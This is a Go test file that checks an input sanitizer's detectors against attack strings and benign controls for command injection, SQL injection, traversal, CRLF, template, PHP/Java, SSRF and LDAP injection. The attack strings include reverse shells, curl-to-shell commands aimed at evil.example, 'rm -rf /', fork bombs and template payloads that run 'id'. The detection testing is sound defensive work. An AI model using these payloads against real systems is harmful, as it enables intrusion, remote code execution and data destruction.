package sanitize

import (
	"strings"
	"testing"
	"time"
)

// detectorCases are attacks (want = the rule) and benign controls (want = "") run through the
// normalizer and every detector on a route with the default config.
var detectorCases = []struct {
	want, loc, value string
}{
	// cmd_injection: separators and substitutions followed by a command.
	{RuleCmdInjection, "query.q", ";cat /tmp/x"},
	{RuleCmdInjection, "query.q", "x;cat /tmp/hosts"},
	{RuleCmdInjection, "query.q", "| id"},
	{RuleCmdInjection, "query.q", "1|id"},
	{RuleCmdInjection, "query.q", "127.0.0.1 && whoami"},
	{RuleCmdInjection, "query.q", "a$(whoami)"},
	{RuleCmdInjection, "query.q", "$(cat /tmp/x)"},
	{RuleCmdInjection, "query.q", "x`id`"},
	{RuleCmdInjection, "query.q", "`uname -a`"},
	{RuleCmdInjection, "query.q", ";cat${IFS}/tmp/x"},
	{RuleCmdInjection, "query.q", "{,$'whoami',}"},
	{RuleCmdInjection, "query.q", ";$'whoami'"},
	{RuleCmdInjection, "query.x", "ping`` 127.0.0.1"},
	{RuleCmdInjection, "query.x", "$@whoami"},
	{"", "query.q", "use ``ping`` to test"},
	{"", "query.q", "the $'s value"},
	{"", "query.q", "costs $\"5\""},
	{RuleCmdInjection, "query.q", ";cat$IFS$9/tmp/x"},
	{RuleCmdInjection, "query.q", "1;sleep 5"},
	{RuleCmdInjection, "query.q", "1; sleep 5 #"},
	{RuleCmdInjection, "query.q", "hello\nwhoami"},
	{RuleCmdInjection, "query.q", "hello%0acat /tmp/x"},
	{RuleCmdInjection, "query.q", "& dir"},
	{RuleCmdInjection, "query.q", "x & dir c:\\"},
	{RuleCmdInjection, "query.q", "| type c:\\x.txt"},
	{RuleCmdInjection, "query.q", "cmd.exe /c dir"},
	{RuleCmdInjection, "query.q", "x|cmd /c whoami"},
	{RuleCmdInjection, "query.q", "powershell -enc SQBFAFgA"},
	{RuleCmdInjection, "query.q", "PowerShell.exe -nop -w hidden"},
	{RuleCmdInjection, "query.q", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
	{RuleCmdInjection, "query.q", "/bin/sh -c id"},
	{RuleCmdInjection, "query.q", ";nc -e /bin/sh 10.0.0.1 4444"},
	{RuleCmdInjection, "query.q", "; nc 10.0.0.1 4444 -e sh"},
	{RuleCmdInjection, "query.q", "; curl http://evil.example/x.sh | sh"},
	{RuleCmdInjection, "query.q", "curl -s http://evil.example/x|bash"},
	{RuleCmdInjection, "query.q", ";wget http://evil.example/x -O /tmp/x"},
	{RuleCmdInjection, "query.q", "&& wget evil.example/x"},
	{RuleCmdInjection, "query.q", ";c''at /tmp/x"},
	{RuleCmdInjection, "query.q", ";c\\at /tmp/x"},
	{RuleCmdInjection, "query.q", ";c\"a\"t /tmp/x"},
	{RuleCmdInjection, "query.q", ";/???/c?t /tmp/x"},
	{RuleCmdInjection, "query.q", ";/bi[n]/ca[t] x"},
	{RuleCmdInjection, "query.q", ";c$@at /tmp/x"},
	{RuleCmdInjection, "query.q", ";w$@hoami"},
	{RuleCmdInjection, "query.q", ";who$()ami"},
	{RuleCmdInjection, "query.q", "{cat,/tmp/x}"},
	{RuleCmdInjection, "query.q", "x;$SHELL -c id"},
	{RuleCmdInjection, "query.q", "() { :; }; echo vulnerable"},
	{RuleCmdInjection, "query.q", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"},
	{RuleCmdInjection, "query.q", "ls -la"},
	{RuleCmdInjection, "query.q", "/usr/bin/perl -e 'print 1'"},
	{RuleCmdInjection, "query.q", "for /f %i in (x.txt) do echo %i"},
	{RuleCmdInjection, "query.q", "if exist c:\\x.txt echo found"},
	{RuleCmdInjection, "query.q", "time nohup whoami"},
	{RuleCmdInjection, "query.q", "%3Bcat%20%2Ftmp%2Fx"},
	{RuleCmdInjection, "query.q", "%253Bid"},
	{RuleCmdInjection, "query.q", "&#59;id"},
	{RuleCmdInjection, "json.cmd", "x; rm -rf /"},
	{RuleCmdInjection, "cookie.c", "a|whoami"},
	// cmd_injection benign controls.
	{"", "query.q", "Tom & Jerry; cats | dogs"},
	{"", "query.q", "cat / dog food | best price"},
	{"", "query.q", "sleep 8 hours; eat well"},
	{"", "query.q", "python -m venv tutorial"},
	{"", "query.q", "rock & roll; more to come"},
	{"", "query.q", "dogs; cat people are weird"},
	{"", "query.q", "passport & ID"},
	{"", "query.q", "Skills: Java; PHP; Python; Ruby"},
	{RuleCmdInjection, "form.code", "ansible-config dump"},
	{RuleCmdInjection, "form.code", "visudo"},
	{RuleCmdInjection, "form.code", "cd /;cd etc;fold passwd"},
	{RuleCmdInjection, "query.rce", "alias %2Bm a=b"},
	{RuleCmdInjection, "query.x", ";trap 'rm -rf file.txt' SIGEXIT"},
	{RuleCmdInjection, "query.foo", `IF "%~1" == "%~2" (EXIT /B 0)`},
	{RuleCmdInjection, "query.foo", "if not {%1} == {}"},
	{"", "query.q", "well-known tools"},
	{RuleSSRF, "query.x", "unix:AAAAAAAAA|http://example.com/"},
	{"", "query.q", "unix: a|b"},
	{RuleSSRF, "xml.tag", "ftp%3A%2F%2F1.1.1.1"},
	{RuleSSRF, "query.x", "https?"},
	{RuleSSRF, "query.ssrf", "ssh://0177.00.00.01"},
	{RuleSSRF, "query.ssrf", "irc://localhost"},
	{RuleSSRF, "query.ssrf", "http://169。254。169。254/"},
	{RuleSSRF, "query.ssrf", "http://google.com:80 &@google.com:80# @127.88.23.245:22/"},
	{"", "query.q", "mail jane@example.com about https://example.com/x"},
	{RuleSSRF, "query._CONF[path]", "https://foo.bar"},
	{RuleSSRF, "form.mosConfig_absolute_path", "http://evil.example/x.txt?"},
	{"", "query.return_path", "https://example.com/cb"},
	{"", "query.filter[path]", "/docs"},
	{RulePHP, "query.x", "include(http://evil.example/x.txt)"},
	{"", "query.q", "include (http links)"},
	{"", "query.q", "https or http?"},
	{"", "query.q", "ftp://ftp.example.com/pub"},
	{RuleCRLF, "body", "bar\r\nSomething: GET /b.html HTTP/1.1\r\nHost: foo.com"},
	{"", "body", "line one\r\nX-Note: two\r\n"},
	{RuleCRLF, "query.v", "%0d%0aRemote-addr:%20foo.bar.com"},
	{RuleCRLF, "header.someheader", "Headerdata%0dInjectedHeader: response_splitting_code"},
	{"", "query.addr", "12 Main St%0D%0ANote: ring twice"},
	{RuleCmdInjection, "query.x", "~-"},
	{RuleCode, "query.eval", "while(!false)"},
	{RuleCode, "query.eval", "while(-Infinity);"},
	{RuleCode, "query.eval", "while(!!'');"},
	{RuleCode, "query.eval", "while((true)))"},
	{"", "query.q", "wait a while (1 hour) please"},
	{"", "json.code", "while (queue.length) run(queue.shift())"},
	{RuleCmdInjection, "form.cmd", "cu$@rl google.com"},
	{RuleCmdInjection, "cookie.c", "una$$me -a"},
	{RuleCmdInjection, "query.x", "pi<()ng 127.0.0.1"},
	{RuleCmdInjection, "form.cmd", ":(){ :|:& };:"},
	{RuleCmdInjection, "query.x", "$[2%2B2]"},
	{RuleCmdInjection, "form.arg", ";gcc10.1<<<void main(){}"},
	{"", "query.path", "$[0].name"},
	{"", "query.q", "go back <<< here"},
	{RuleCmdInjection, "form.cmd", "f() { f() & f(); }; f"},
	{"", "query.q", "it costs US$$5"},
	{"", "query.q", "don''t stop"},
	{"", "json.code", "function f() { return g() || h(); }"},
	{RuleCmdInjection, "query.x", "~%2B5"},
	{"", "query.q", "~-5 degrees"},
	{"", "query.q", "~"},
	{"", "query.q", "50% off if total == 100"},
	{"", "query.q", "Price: $5 or $10 & free shipping"},
	{"", "query.q", "cat food"},
	{"", "query.q", "sleep tips for babies"},
	{"", "query.q", "python tutorial"},
	{"", "query.q", "curl hair styles"},
	{"", "query.q", "powershell tutorial"},
	{"", "query.q", "whoami lyrics"},
	{"", "query.q", "time flies like an arrow"},
	{"", "query.q", "Q&A: what is 2 + 2?"},
	{"", "query.q", "https://example.com/bin/download?id=5&x=1"},
	{"", "query.q", "jane.doe@example.com"},
	{"", "query.q", "a | b | c"},
	{"", "query.q", "Hello,\nCat and I will be late.\nThanks"},
	{"", "json.code", "x = items.filter(i => i.ok || i.force); done();"},
	{"", "json.code", "for (i = 0; i < n; i++) { printf(\"%d\", i); }"},
	{"", "json.code", "for x in (1, 2, 3): print(x)"},
	{"", "json.code", "if a == b: return"},
	{"", "json.code", "x = a || b; y = c && d;"},
	{"", "json.text", "Use the cd-rom; then type your name."},
	{"", "json.text", "I'm at home; call me later"},
	{"", "json.text", "Fish & Chips - £9.50; Kids menu | Drinks"},
	{"", "json.text", "Meeting @ 10:30 (bring laptop)"},
	{"", "json.text", "2*(3+4)/7 = 2"},
	{"", "json.text", "C:\\Users\\me\\Documents"},
	{"", "json.text", "/home/user/documents/report.docx"},
	{"", "json.text", "see https://en.wikipedia.org/wiki/Cat_(disambiguation)"},
	{"", "json.text", "50% off; today only!"},
	{"", "json.text", "Tom & Jerry's; set of 3 | start: Monday"},
	{"", "json.text", "He said find me later; I agreed."},

	// sqli additions: tautologies and subqueries
	{RuleSQLi, "query.q", " or 2=2"},
	{RuleSQLi, "query.q", "/*x*/and/**/2=2"},
	{RuleSQLi, "query.q", "1 ,(SELECT CASE WHEN 5914=5914 THEN 1 ELSE 0 END)"},
	{"", "query.q", "in case when you arrive, then call"},
	{"", "query.q", "x or 2"},
	{"", "json.body", "Reacted spelt - vacuously Japanese (70) anoraks clumps it's egg headmaster..."},
	{"", "json.body", "Gladiolas lectures parochialism - ridiculous benchmark (70) worriers, coalesce (79) anoraks"},
	{RuleSQLi, "query.q", "database ("},
	{RuleSQLi, "query.q", "1 and sleep (5)"},

	// sqli shapes (detect_sqli.go): a literal closed, extended and commented out.
	{RuleSQLi, "query.email", "z'or email notnull--"},
	{RuleSQLi, "form.email", "admin%40example.com'%20and%20email%20ilike%20email--"},
	{RuleSQLi, "json.v", "user'collate nocase--"},
	{RuleSQLi, "query.v", "x'%7Cemail--"},
	{RuleSQLi, "query.v", "x'%252Bemail--"},
	{RuleSQLi, "query.v", "id'is not-id--"},
	{RuleSQLi, "query.v", "'or(glob 1)--"},
	{RuleSQLi, "query.v", "'glob 1;"},
	{RuleSQLi, "cookie.c", "'test--"},
	{RuleSQLi, "header.x-id", "x' OR email~all(array[email]);analyze--"},
	{RuleSQLi, "query.v", "'/**/or/**/1#"},
	// a stray leading quote before a statement, a boolean operator or a comment
	{RuleSQLi, "query.v", "'alter a"},
	{RuleSQLi, "json.v", "\" UNION A"},
	{RuleSQLi, "query.v", "%26apos%3B%20OR"},
	{RuleSQLi, "query.v", "' or (EXISTS)"},
	{RuleSQLi, "query.v", "'#mysql"},
	// an escaped quote before a boolean operator; hex-escaped quotes
	{RuleSQLi, "query.v", "%5C'or'1"},
	{RuleSQLi, "json.v", "newline\n\\' and 1"},
	{RuleSQLi, "query.v", "\\x27\\x4F\\x52 SELECT *"},
	{RuleSQLi, "query.v", "\\x23"},
	// comments: MySQL's executable one, keywords glued to one
	{RuleSQLi, "query.id", "9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}"},
	{RuleSQLi, "query.v", "SELECT/*avoid-spaces*/password/**/FROM/**/Members"},
	{RuleSQLi, "form.t", "DROP/*comment*/sampletable"},
	// string and commented tautologies
	{RuleSQLi, "query.v", "1')) AND (('vXqT'='vXqT"},
	{RuleSQLi, "query.v", "/*ora_mysql*/and/**/2=0"},
	{RuleSQLi, "query.v", " and 2=0#mysql"},
	{RuleSQLi, "query.v", "or 4975==4975'"},
	// comparisons and calls left open for the application's quote or parenthesis
	{RuleSQLi, "query.pay", "AND 7639=("},
	{RuleSQLi, "json.pay", "|| arg == '"},
	{RuleSQLi, "query.pay", "and object_type = '"},
	{RuleSQLi, "query.pay", "oR pmw=="},
	{RuleSQLi, "query.pay", "something LIKE '"},
	{RuleSQLi, "query.pay", "MAX("},
	{RuleSQLi, "query.pay", "quarter. ("},
	{RuleSQLi, "query.pay", "length||("},
	{RuleSQLi, "query.pay", "user%28"},
	{RuleSQLi, "query.pay", "md5%5C%28"},
	{RuleSQLi, "query.pay", "password/?("},
	{"", "json.text", "Decrypts `buffer` with `key`.`buffer` was encrypted"},
	{"", "json.text", "is it in (see above)"},
	// statement pieces: a closed subquery, a value list, a stacked statement, a JSON path
	{RuleSQLi, "query.v", ") AS orders FROM"},
	{RuleSQLi, "query.v", "VALUES ('192.168.0.1', 'test')"},
	{RuleSQLi, "query.v", "except values(1,2)"},
	{RuleSQLi, "header.someheader", "DELETE FROM users;--"},
	{RuleSQLi, "query.v", "admin@example.com`;"},
	{RuleSQLi, "query.v", "root@example.com'/* comment */;"},
	{RuleSQLi, "query.q", "'{\"a\":2}' < '$.c[2].f' = 7"},
	{RuleSQLi, "query.v", ")like("},
	{RuleSQLi, "query.i", "2.2250738585072011e-308"},
	{RuleSQLi, "path[2]", "24'union+all+select+1,2,3+from+aa"},
	// sqli shapes: benign controls (prose, code, Markdown, HTML)
	{"", "query.q", "is this your parents' or yours?"},
	{"", "query.q", "it is your parents' and yours"},
	{"", "json.text", "The terminal type `linux' is now recognized---"},
	{"", "json.text", "`declare -p' as well."},
	{"", "json.text", "Select' your plan"},
	{"", "json.text", "'Select' your plan"},
	{"", "json.text", "\"Or else\" he said"},
	{"", "json.text", "The API reference is in `docs/reference`;"},
	{"", "json.text", "Implemented `--start` and `--stop` options to set the first entry;"},
	{"", "json.text", "process.chdir('/non-existent-path');"},
	{"", "json.text", "$defines =~ s/\\'//g;"},
	{"", "json.text", "<code class=\"computeroutput\">bzip2 --"},
	{"", "json.text", "copy the <code>valgrind/*.h</code> headers"},
	{"", "json.text", "\"./feature/*.js\": \"./feature/*.js\","},
	{"", "json.text", "ext/Amiga-Exec/*"},
	{"", "json.text", "png_read(&image, NULL/*background*/, buffer,"},
	{"", "json.text", "surrounding quotes from string, \\' or \\\""},
	{"", "json.text", "Fix the expansion of '\\\\' and octal escape sequences."},
	{"", "json.text", "We now use two \\x27 characters ('...')."},
	{"", "json.text", "cl-format.xml and dump.c don't agree on using cfl= or cfi="},
	{"", "json.text", "[PERSONALITIES == 2 && KLONGSIZE =="},
	{"", "json.text", "Split hb_iter_t<> into hb_iter_t<> and hb_iter_mixin_t<>"},
	{"", "json.text", "console.log("},
	{"", "json.text", "How was the bot happy before, but isn't now?! :("},
	{"", "json.text", "bash performed process substitution if <("},
	{"", "json.text", "values (128 bits as 2 64 bits doubles)"},
	{"", "json.text", "our core values ('integrity', 'care')"},
	{"", "json.text", "In fact, remove the 'operator' user (not group) entirely"},
	{"", "json.text", "the user(s) of the system"},
	{"", "json.text", "I like 'em"},
	{"", "json.text", "Delete from my cart; thanks"},
	{"", "json.text", "x and 2=3 in the table"},
	{"", "query.q", "rock 'n' roll"},
	{"", "query.q", "'90s music and more"},
	{"", "query.q", "#1 hit"},

	// path_traversal additions
	{RuleTraversal, "query.f", "..%u2216..%u2216etc/passwd"},
	{RuleTraversal, "query.f", "..0x5c..0x5cboot.ini"},
	{RuleTraversal, "query.f", "C:/inetpub/wwwroot/global.asa"},
	{"", "query.q", "wait.. what.. really"},
	{"", "query.q", "ok… fine… done"},

	// crlf
	{RuleCRLF, "query.next", "/home%0d%0aSet-Cookie:%20session=x"},
	{RuleCRLF, "query.next", "/x\r\nLocation: http://evil.example/"},
	{RuleCRLF, "query.lang", "en%0d%0a%0d%0aHTTP/1.1 200 OK"},
	{RuleCRLF, "form.r", "a%0AContent-Length:%200"},
	{RuleCRLF, "cookie.c", "a%0d%0aX-Injected:%201"},
	{RuleCRLF, "query.q", "%250d%250aSet-Cookie:x=1"},
	{RuleCRLF, "path[0]", "a%0d%0ab"},
	{RuleCRLF, "query.next", "/x%E5%98%8D%E5%98%8ASet-Cookie:%20x=1"},
	{RuleCRLF, "query.next", "/x\u2028Location: http://evil.example/"},
	{RuleCRLF, "query.a", "GET http://example.com/ HTTP/1.1"},
	{RuleCRLF, "header.referer", "https://www.example.com/search?q=%0D%0ASet-Cookie%3A%20session%3Devil"},
	{RuleCRLF, "xml.note", "&#xD;&#xA;Set-Cookie: session=evil"},
	{"", "form.address", "12 Main St\r\nLocation: Dublin\r\nDate: Monday"},
	{"", "form.message", "Hello\r\nHost: John\r\nThanks"},
	// SMTP and POP3 commands after a line break (CRS 932300-932321); word-like verbs only as the
	// whole line with their exact arguments.
	{RuleCRLF, "query.attackme", "%0d%0aMAIL%20FROM%3A%3Ca%40b.example%3E"},
	{RuleCRLF, "form.to", "x%0d%0aRCPT TO: <postmaster>"},
	{RuleCRLF, "query.attackme", "%0d%0aQUIT"},
	{RuleCRLF, "query.attackme", "%0d%0aRETR%20123"},
	{RuleCRLF, "json.a", "\nlist 3"},
	{RuleCRLF, "query.attackme", "%0d%0aTOP%201%202"},
	{RuleCRLF, "query.attackme", "%0d%0aAUTH%20plain%20dGhpc2lzIWF0ZXN0cGFzc3dvcmQ="},
	{RuleCRLF, "query.a", "%0d%0aEHLO%20evil.example%0d%0a"},
	{RuleCRLF, "cookie.a", "x%0aVRFY%20root"},
	{"", "form.message", "Hello\r\nQuit smoking\r\nList of items\r\nTop 10 tips"},
	{"", "form.message", "Overview\r\nData\r\nHelp\r\nUser guide"},
	{"", "form.message", "Mail from: John\r\nMail from: Mary"},
	{"", "form.message", "QUIT"},
	// A bare CR in a query or form value (CRS 921151); CR LF line breaks are a textarea's.
	{RuleCRLF, "query.q", "test%0Dnext=more"},
	{RuleCRLF, "form.q", "a\rb"},
	{RuleCRLF, "query.q", "a%0D"},
	{"", "query.q", "line1%0D%0Aline2"},
	{"", "json.text", "old mac\rline"},
	{RuleCRLF, "json.note", "a\r\nSet-Cookie: x=1"},
	{"", "json.note", "Dear team,\r\nDate: Monday\r\nOrigin: Ireland\r\nServer: rack 4"},
	{"", "query.q", "Set-Cookie header explained"},

	// ssti
	{RuleSSTI, "query.name", "{{7*7}}"},
	{RuleSSTI, "query.name", "${7*7}"},
	{RuleSSTI, "query.name", "<%= 7*7 %>"},
	{RuleSSTI, "query.name", "#{7*7}"},
	{RuleSSTI, "query.name", "{{7*'7'}}"},
	{RuleSSTI, "query.name", "{% import os %}{{ os.popen('id').read() }}"},
	{RuleSSTI, "query.name", "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{RuleSSTI, "query.name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
	{RuleSSTI, "query.name", "{{config}}"},
	{RuleSSTI, "query.name", "{{ config.items() }}"},
	{RuleSSTI, "query.name", "{{self.__dict__}}"},
	{RuleSSTI, "query.name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
	{RuleSSTI, "query.name", "#set($x = 1)"},
	{RuleSSTI, "query.name", "${T(java.lang.System).getenv()}"},
	{RuleSSTI, "query.name", "<%= system('id') %>"},
	{RuleSSTI, "query.name", "%7B%7B7*7%7D%7D"},
	{RuleSSTI, "query.name", "{{ 7 * 7 }}"},
	{"", "query.name", "{{name}}"},
	{"", "json.tpl", "Hello {{ user.first_name | title }}, your order {{order.id}} shipped"},
	{"", "json.tpl", "{% if user %}Hi {{ user }}{% endif %}"},
	{"", "json.tpl", "Total: ${price}"},
	{"", "json.code", "const msg = `Total: ${items.length * price}`;"},
	{"", "json.code", "class Foo:\n    def __init__(self):\n        self.x = 1"},
	{"", "json.tpl", "#{id}"},
	{"", "json.text", "Use {{ and }} to escape braces"},

	// php_injection, java_injection
	{RulePHP, "query.cmd", "<?php system('id'); ?>"},
	{RulePHP, "query.cmd", "<? echo 1"},
	{RulePHP, "query.x", "$_SERVER['HTTP_HOST'];"},
	{RulePHP, "query.f", "php://filter/convert.base64-encode/resource=index"},
	{RulePHP, "query.x", "shell_exec /* x */ ('id')"},
	{RulePHP, "query.x", "(system)('uname')"},
	{RulePHP, "query.x", "$__['o'](5)"},
	{RulePHP, "query.x", "O:8:\"stdClass\":0:{}"},
	{RulePHP, "query.x", "system('id')"},
	{"", "query.q", "the system (which is down)"},
	{"", "json.code", "print(\"hello\")"},
	{"", "json.code", "printf(\"%s\", name)"},
	{"", "query.q", "exec summary (draft)"},
	// A value that is nothing but "${name}" or one call of a built-in C, Python or SQL share the
	// name of; such a built-in on a '$' variable, quoted, parenthesized or with a comment before
	// its parenthesis; a callee expression or quoted name called as a statement.
	{RulePHP, "query.x", "${a}"},
	{RulePHP, "cookie.x", " ${foo} ;"},
	{RulePHP, "query.test", "printf(foo)"},
	{RulePHP, "query.foo", "chroot%09%28%29"},
	{RulePHP, "query.x", "getcwd()"},
	{RulePHP, "json.x", "dirname(__FILE__)"},
	{RulePHP, "query.x", "count($a)"},
	{RulePHP, "query.x", "time($t)"},
	{RulePHP, "query.x", "strlen($x)"},
	{RulePHP, "json.x", "x = fclose($f);"},
	{RulePHP, "query.x", "\"printf\"(x)"},
	{RulePHP, "query.x", "(chr)(112)"},
	{RulePHP, "query.x", "{0}(ls);"},
	{RulePHP, "query.x", "'sys'.'tem'(ls);"},
	{RulePHP, "query.x", "(s.y.s.t.e.m)(id);"},
	{RulePHP, "query.x", "\"\\163ystem\"('id');"},
	{RulePHP, "query.x", "bson_decode()"},
	{RulePHP, "query.x", "is_null($x)"},
	{RulePHP, "query.x", "runkit_function_add('a','','b')"},
	{RulePHP, "query.x", "$HTTP_REQUEST_VARS"},
	{RulePHP, "form.v", "cli.pager=1"},
	{RulePHP, "form.v", "com.allow_dcom=1"},
	{RulePHP, "form.v", "seaslog.level=1"},
	{RulePHP, "form.v", "session.upload_progress.enabled=1"},
	{"", "query.q", "total ${price}"},
	{"", "json.code", "x = `${price}`"},
	{"", "json.code", "basename('/a/b')"},
	{"", "json.code", "strlen(name) > 3 && ok"},
	{"", "json.code", "x = printf(foo) + 1"},
	{"", "query.q", "use printf() to print"},
	{"", "json.code", "[printf](https://example.com/printf)"},
	{"", "query.q", "count the floor (2nd)"},
	{"", "query.q", "max 2 per customer (limit)"},
	{"", "json.text", "He said \"yes\" (sort of);"},
	{RulePHP, "query.x", "'sys'.'tem' (ls);"},
	{RulePHP, "query.x", "{0} /* x */ (ls);"},
	{"", "query.q", "(a+b) (c-d);"},
	{"", "query.q", "com.example=1"},
	// PHP uploads, php.ini directives, variable variables and dynamic calls.
	{RulePHP, "form.file.filename", "shell.php"},
	{RulePHP, "form.file.filename", "dir/Shell.PHP5..."},
	{RulePHP, "form.file.filename", "photo. phtml "},
	{RulePHP, "form.file.filename", "avatar.phar.png"},
	{RulePHP, "header.x-filename", "a.php"},
	{RulePHP, "header.x_file_name", "x.phps"},
	{RulePHP, "header.x.filename", "/var/lib/php/sessions/sess_0123456789abcdefghij"},
	{"", "form.file.filename", "php.logo.png"},
	{RuleTraversal, "form.file.filename", "php.ini.txt"},
	{"", "form.file.filename", "graph.png"},
	{"", "form.file.filename", "sess_notes.txt"},
	{"", "query.filename", "report.php"},
	{"", "header.x-file-id", "a.php"},
	{RuleTraversal, "form.f.filename", ".htaccess"},
	{RuleTraversal, "header.x-filename", "wp-config_php.txt"},
	{RuleTraversal, "form.f.filename", "C:\\Users\\a\\.ssh\\authorized_keys"},
	{"", "form.f.filename", "passport.jpg"},
	{"", "form.f.filename", "shadow.png"},
	{RuleTraversal, "header.x-filename", "shadow"},
	{RuleTraversal, "form.f.filename", "config.yml "},
	{RuleTraversal, "header.x-filename", "mtrr"},
	{RuleTraversal, "header.x_filename", "package.json."},
	{RuleTraversal, "form.f.filename", "C:\\app\\composer.lock"},
	{"", "form.f.filename", "my-config.yml"},
	{"", "form.f.filename", "package.json.txt"},
	{"", "query.file", "package.json"},
	{"", "form.f.filename", "...."},
	{"", "query.file", ".htaccess tips"},
	{RulePHP, "form.v", "allow_url_include=1"},
	{RulePHP, "query.code", "opcache.jit_buffer_size = 0"},
	{RulePHP, "json.x", "x\nauto_prepend_file=/tmp/x"},
	{"", "query.q", "engine == v8"},
	{"", "query.q", "my.opcache.tuning=fast"},
	{"", "query.q", "$engine=1"},
	{RulePHP, "query.x", "$ {$a}"},
	{RulePHP, "query.x", "${'_VAR'.'IABLE'}"},
	{RulePHP, "query.x", "$   { CONSTANT }"},
	{"", "query.q", "a ${b} c"},
	{RulePHP, "form.test", "Shell_exec=(bla)"},
	{RulePHP, "query.cb", "base64_decode;"},
	{RulePHP, "query.q", "x base64_decode y"},
	{RulePHP, "query.q", "how to use passthru in php"},
	{RulePHP, "query.x", "<? foo(); ?>"},
	{RulePHP, "query.x", "$a (1)"},
	{RulePHP, "query.x", "$fn /* x */ ()"},
	{RulePHP, "query.x", "strpos($a, 'x')"},
	{RulePHP, "query.x", "ini_alter('x', 1)"},
	{RulePHP, "query.x", "a unserialize b"},
	{RulePHP, "query.x", "$fn\n()"},
	{"", "query.q", "I paid $total (2 items)"},
	{RulePHP, "query.x", "$s_func(22)"},
	{"", "query.q", "$USD (approx)"},
	{RulePHP, "query.x", "(sy.(st).em)('uname');"},
	{RulePHP, "query.x", "(['system'])[0]('uname');"},
	{RulePHP, "query.x", "(x)/* c */('uname')"},
	{RulePHP, "query.x", "\"\\x73y\\x73tem\"(ls);"},
	{"", "query.q", "(a+b)(c-d) = ac - ad + bc - bd"},
	{"", "query.q", "see [1](notes)"},
	{RulePHP, "query.x", "array_diff ("},
	{RulePHP, "query.x", "ldap_get_entries()"},
	{"", "json.code", "my_helper(x)"},
	{RulePHP, "query.foo", "system\r\n()"},
	{RulePHP, "query.foo", "FILE%0D%0A%28%29"},
	{RulePHP, "query.f", "file($f)"},
	{RulePHP, "query.f", "printf($_fmt)"},
	{"", "json.code", "printf(\"%d\", n)"},
	{"", "query.q", "see the file (draft)"},
	{RulePHP, "query.x", "$_S ERVER['REQUEST_URI'];"},
	{RulePHP, "query.x", "shell_exec"},
	{RulePHP, "json.x", "O:+8:\"stdClass\":0:{}"},
	{RulePHP, "query.x", "a $GLOBALS b"},
	{RulePHP, "query.x", "system(foo(1))"},
	{RulePHP, "query.x", "mail($to, $s, $b)"},
	{RulePHP, "query.x", "system (hex2bin('6964'))"},
	{RulePHP, "query.x", "$f ('id')"},
	{RulePHP, "form.v", "register_globals = On"},
	{RulePHP, "form.v", "pdo_mysql.default_socket=/tmp/x"},
	{"", "query.q", "$argument and $_serverless"},
	{"", "query.q", "copy (paste) this"},
	{"", "query.q", "$_ fees [a]"},
	{"", "query.q", "my_shell_exec_notes"},
	{RulePHP, "query.x", "str_repeat('a', 5)"},
	{"", "json.code", "print(len(name))"},
	{"", "query.q", "the battery may explode (rarely)"},
	{"", "query.q", "attach the file (pdf)"},
	{RuleJava, "json.x", "java.lang.Runtime"},
	{RuleJava, "form.x", "java.io.ObjectOutputStream"},
	{RuleJava, "form.f.filename", "shell. jspx"},
	{RuleJava, "header.x_filename", "B.jsp.."},
	{RuleJava, "json.test", "org.apache.commons"},
	{RuleJava, "query.test", "runtime.forclosure"},
	{RuleJava, "form.test", "cnVudGltZQ"},
	{RuleJava, "form.test", "BydW50aW1l"},
	{RuleJava, "json.x", "HByb2Nlc3NidWlsZGVy"},
	{"", "form.token", "dGhlIHF1aWNrIGJyb3duIGZveA"},
	{"", "form.id", "AbCdEfGhIjKlMnOp"},
	{"", "form.f.filename", "jsp-tutorial.pdf"},
	{"", "query.q", "apache commons"},
	{RuleJava, "json.x", "rO0ABXNyABdqYXZh"},
	{RuleJava, "json.x", "org.apache.commons.collections.functors.InvokerTransformer"},
	{RuleJava, "json.x", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}"},
	{"", "json.text", "I learn Java. It is fun"},
	{"", "json.text", "Download from java.com today"},
	{"", "json.text", "javascript.info is a good site"},

	// code_injection, ssrf
	{RuleCode, "json.x", "_$$ND_FUNC$$_function(){require('child_process')}"},
	{RuleCode, "query.__proto__[admin]", "__proto__[admin]"},
	{RuleCode, "query.x", "constructor.prototype.isAdmin"},
	{RuleCode, "query.x", "Process.spawn(\"id\")"},
	{RuleCode, "query.x", "@{[system 'id']}"},
	{"", "json.code", "Foo.prototype.bar = function() { return 1; };"},
	{RuleSSRF, "query.url", "http://169.254.169.254/latest/meta-data/"},
	{RuleSSRF, "query.url", "http://localhost:8080/admin"},
	{RuleSSRF, "query.url", "http://127.0.0.1/"},
	{RuleSSRF, "query.url", "http://2130706433/"},
	{RuleSSRF, "query.url", "http://0x7f000001/"},
	{RuleSSRF, "query.url", "https://user@[::1]:80/"},
	{RuleSSRF, "query.url", "http:127.0.0.1"},
	{RuleSSRF, "query.url", "gopher://internal:6379/_x"},
	{RuleSSRF, "query.url", "localhost/"},
	{RuleSSRF, "query.url", "http://db.cluster.local/x"},
	{RuleSSRF, "query.url", "host.docker.internal/"},
	{RulePHP, "query.x", "system(whoami)"},
	{RulePHP, "query.x", "shell_exec //comment\n ('id')"},
	{"", "json.text", "see the file # notes\n(attached)"},
	{"", "query.q", "solar system(s) explained"},
	{"", "query.url", "https://example.com/callback?state=xyz"},
	{"", "header.referer", "http://localhost:3000/dashboard"},
	{"", "header.origin", "http://127.0.0.1:8080"},
	{RuleSSRF, "query.page", "https://evil.example/shell.txt?"},
	{"", "query.q", "is https://example.com down?"},
	{"", "query.q", "localhost is a hostname"},
	{"", "query.q", "http 2.0 vs 1.1"},
	{"", "query.q", "see https://10minutemail.com/"},

	// ldap
	{RuleLDAP, "form.user", "*)(uid=*))(|(uid=*"},
	{RuleLDAP, "form.user", "admin)(|(password=*)"},
	{RuleLDAP, "form.user", "*)(&"},
	{RuleLDAP, "form.user", "admin)(|"},
	{RuleLDAP, "form.user", "(objectClass=*)"},
	{RuleLDAP, "form.user", "x)(&(objectCategory=person)"},
	{RuleLDAP, "form.user", "admin*)((|userPassword=*)"},
	{"", "form.text", "(see above)(and below)"},
	{"", "json.code", "memset(&(x), 0, n);"},
	{"", "json.text", "(a+b)*(c-d)"},
	{"", "json.text", "f(x)(y) = 3"},
	{"", "json.text", "Smiles :) (really)"},

	// xxe
